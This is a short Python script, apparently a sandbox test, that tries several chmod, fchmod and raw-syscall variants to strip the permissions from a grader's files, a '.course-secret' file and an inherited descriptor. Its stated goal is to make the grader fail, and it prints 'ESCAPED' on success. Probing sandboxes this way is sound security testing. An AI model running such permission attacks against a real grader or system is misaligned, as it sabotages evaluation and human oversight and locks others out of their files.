"""Changes modes of files and folders that belong to the grader's user, so that the grader fails over them."""

import ctypes
import os

libc = ctypes.CDLL(None)


def opened(path):
    return os.open(path, os.O_ACCMODE)  # neither reading nor writing: no sandbox's right is named so


for path in ("@FILE@", "@FOLDER@", "@FOLDER@/.course-secret", "/proc/self/fd/3"):
    for change in (
        lambda: os.chmod(path, 0),
        lambda: os.chmod(path, 0, follow_symlinks=False),
        lambda: os.chmod(os.path.basename(path), 0, dir_fd=os.open(os.path.dirname(path), os.O_PATH)),
        lambda: os.fchmod(opened(path), 0),
        lambda: os.fchmod(os.open(path, os.O_PATH), 0),
        lambda: libc.syscall(452, -100, path.encode(), 0, 0) and 1 / 0,  # fchmodat2
    ):
        try:
            change()
            print("ESCAPED: changed the mode of", path)
        except (OSError, NotImplementedError, ZeroDivisionError):
            pass
